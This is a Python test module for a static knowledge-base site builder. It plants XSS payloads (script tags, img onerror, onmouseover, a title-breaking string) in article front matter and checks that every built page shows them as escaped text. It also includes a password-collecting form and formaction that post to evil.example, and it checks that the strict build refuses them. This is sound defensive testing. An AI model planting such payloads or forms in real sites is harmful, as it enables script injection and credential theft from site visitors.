"""Hostile front matter and forms: planted in a real KB, built strictly, the built site grepped.

Issue 11: a ``<script>`` in ``title``, an ``<img onerror>`` in ``tags`` and a ``<form>`` posting to
another host all reached the built site (nav of every page, ``<title>``, the tags page).
"""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest

from gitdesk.errors import GitdeskError
from tests.support.kb import faq, guide, make_sample, write
from tests.support.cli import run_main
from tests.support.site import build

TITLE = '"<script>alert(1)</script> Reset a forgotten password"'
TAGS = '["<img src=x onerror=alert(2)>", password]'
DESCRIPTION = "'\" onmouseover=\"alert(3)'"
FORM = '<form action="https://evil.example/steal" method="post"><input name="password" type="password"></form>'


class _Elements(HTMLParser):
    """Every element and attribute a browser would create from a page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False
        self.scripts: list[str] = []

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value}>")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.found.append("<img src=x>")

    def handle_data(self, data):
        if self._in_script and "alert(" in data:
            self.scripts.append(data)

    def handle_endtag(self, tag):
        self._in_script = False


def hostile_article(**overrides) -> str:
    text = guide("Reset a forgotten password", tags=TAGS, extra=f"description: {DESCRIPTION}\n", **overrides)
    return text.replace("title: Reset a forgotten password", f"title: {TITLE}", 1)


def assert_inert(site: Path) -> None:
    """No payload became markup anywhere in the built site (HTML, JSON, JS)."""
    files = [p for p in site.rglob("*") if p.suffix in (".html", ".json", ".js") and "assets" not in p.parts]
    assert len(files) > 10
    for path in files:
        text = path.read_text(encoding="utf-8")
        for raw in ("<script>alert", "<img src=x", 'onmouseover="alert'):
            assert raw not in text, f"{path.relative_to(site)} carries {raw}"
        if path.suffix == ".html":
            parser = _Elements()
            parser.feed(text)
            assert parser.found == [] and parser.scripts == [], (path.relative_to(site), parser.found, parser.scripts)


def test_front_matter_payloads_are_escaped_everywhere(tmp_path):
    root = make_sample(tmp_path / "desk")
    write(root / "kb", "accounts/reset-password.md", hostile_article())
    write(root / "kb", "accounts/password-faq.md", faq("Password questions", tags="[password, faq]",
                                                       related="[accounts/reset-password.md]"))  # lists the hostile title
    site = tmp_path / "site"
    build(root, site)
    assert_inert(site)
    related = (site / "accounts" / "password-faq.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Reset a forgotten password</a>" in related
    page = (site / "accounts" / "reset-password.html").read_text(encoding="utf-8")
    assert "<title>&lt;script&gt;alert(1)&lt;/script&gt; Reset a forgotten password" in page  # shown, as text
    assert "&lt;img src=x onerror=alert(2)&gt;" in (site / "tags.html").read_text(encoding="utf-8")
    assert "&amp;lt;" not in (site / "accounts" / "password-faq.html").read_text(encoding="utf-8"), "escaped twice"


def test_a_title_taken_from_the_h1_cannot_close_the_title_element(tmp_path):
    """Material prints such a title through ``striptags``, which un-escapes entities."""
    root = make_sample(tmp_path / "desk")
    write(root / "kb", "network/index.md", "# Network &lt;/title&gt;&lt;script&gt;alert(4)&lt;/script&gt;\n\n- [VPN](vpn-wont-connect.md)\n")
    site = tmp_path / "site"
    build(root, site)
    text = (site / "network" / "index.html").read_text(encoding="utf-8")
    assert "<script>alert(4)" not in text and "</title><script>" not in text
    assert_inert(site)


def test_generated_pages_front_matter_is_escaped(tmp_path):
    from gitdesk.site import extensions

    root = make_sample(tmp_path / "desk")
    extensions.generated_page("reports/hostile.md")(
        lambda ctx: "---\ntitle: \"<img src=x onerror=alert(5)>\"\n---\n\n# Report\n\nFigures.\n")
    try:
        site = tmp_path / "site"
        build(root, site)
        assert "&lt;img src=x onerror=alert(5)&gt;" in (site / "reports" / "hostile.html").read_text(encoding="utf-8")
        assert_inert(site)
    finally:
        extensions._PAGES.pop("reports/hostile.md", None)


FORMS = [
    ("form", FORM, "<form> element is not allowed"),
    ("input", 'Type it here: <input name="password">', "<input> element is not allowed"),
    ("textarea", "<textarea>your password</textarea>", "<textarea> element is not allowed"),
    ("off-site formaction", '<p formaction="https://evil.example/x">x</p>', "formaction= sends form data to another host"),
]


@pytest.mark.parametrize("name,html,message", FORMS, ids=[f[0] for f in FORMS])
def test_forms_are_refused_by_kb_check_and_the_strict_build(tmp_path, name, html, message):
    root = make_sample(tmp_path / "desk")
    write(root / "kb", "accounts/reset-password.md", guide("Reset a forgotten password", body={"Fix": html}))
    code, out, err = run_main("kb", "check", repo=root)
    assert code != 0 and message in out + err, out + err
    with pytest.raises(GitdeskError, match="unsafe HTML: .*" + message.split(" (")[0].replace("=", "=")):
        build(root, tmp_path / "site")
    assert not (tmp_path / "site").exists()


def test_task_lists_still_build(tmp_path):
    """The checkboxes pymdownx.tasklist renders are inputs, but collect nothing."""
    root = make_sample(tmp_path / "desk")
    write(root / "kb", "accounts/reset-password.md", guide("Reset a forgotten password", body={"Fix": "- [x] Restart\n- [ ] Reconnect"}))
    assert run_main("kb", "check", repo=root)[0] == 0
    build(root, tmp_path / "site")
    assert 'type="checkbox"' in (tmp_path / "site" / "accounts" / "reset-password.html").read_text(encoding="utf-8")


def test_pages_workflows_run_kb_check_before_deploying():
    """The repository's workflow and the one `gitdesk init` writes."""
    import yaml

    from gitdesk.scaffold import plan
    from tests.support.kb import PROJECT

    written = plan(repository="acme/helpdesk", branch="main")[0][".github/workflows/pages.yml"]
    for path, text in ((PROJECT / ".github/workflows/pages.yml", None), ("gitdesk init's pages.yml", written)):
        flow = yaml.safe_load(text if text is not None else path.read_text(encoding="utf-8"))
        steps = [(job, step.get("run") or step.get("uses") or "") for job, spec in flow["jobs"].items() for step in spec.get("steps", [])]
        texts = [s for _, s in steps]
        check = next((i for i, s in enumerate(texts) if "gitdesk kb check" in s), None)
        assert check is not None, f"{path}: no `gitdesk kb check` step"
        build_at = next(i for i, s in enumerate(texts) if "site build" in s or "mkdocs build" in s)
        assert check < build_at, f"{path}: kb check runs after the build"
        deploy_jobs = [job for job, spec in flow["jobs"].items() if any("deploy-pages" in (st.get("uses") or "") for st in spec.get("steps", []))]
        for job in deploy_jobs:
            needs = flow["jobs"][job].get("needs") or []
            needs = [needs] if isinstance(needs, str) else needs
            check_job = steps[check][0]
            assert job == check_job or check_job in needs, f"{path}: {job} deploys without waiting for {check_job}"


def test_the_payloads_stay_text_in_a_browser(tmp_path, browser):
    """Chromium over HTTP: the article, the tags page and the search results show the hostile
    title and tag as text, and nothing runs (no dialog, no element created from them)."""
    from gitdesk.publish.build import serve_in_thread
    from tests.site.test_site_browser import _search

    root = make_sample(tmp_path / "desk")
    write(root / "kb", "accounts/reset-password.md", hostile_article())
    site = tmp_path / "site"
    build(root, site)
    server, base = serve_in_thread(site)
    try:
        page = browser.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        shown = TITLE.strip('"')
        page.goto(base + "accounts/reset-password.html")  # waits for the load event: images have failed by then
        assert page.title().startswith(shown)
        assert page.locator("img[src=x]").count() == 0
        assert "<img src=x onerror=alert(2)>" in page.locator(".md-tag").all_inner_texts()
        page.goto(base + "tags.html")
        assert page.locator("img[src=x]").count() == 0 and page.locator("script:text('alert')").count() == 0
        page.goto(base + "index.html")
        _search(page, "forgotten password", "Reset a forgotten password")  # results are titled by the H1
        assert "<img src=x onerror=alert(2)>" in page.locator(".md-search-result .md-tag").all_inner_texts()
        assert page.locator(".md-search-result img[src=x]").count() == 0
        assert dialogs == []
    finally:
        server.shutdown()
        server.server_close()
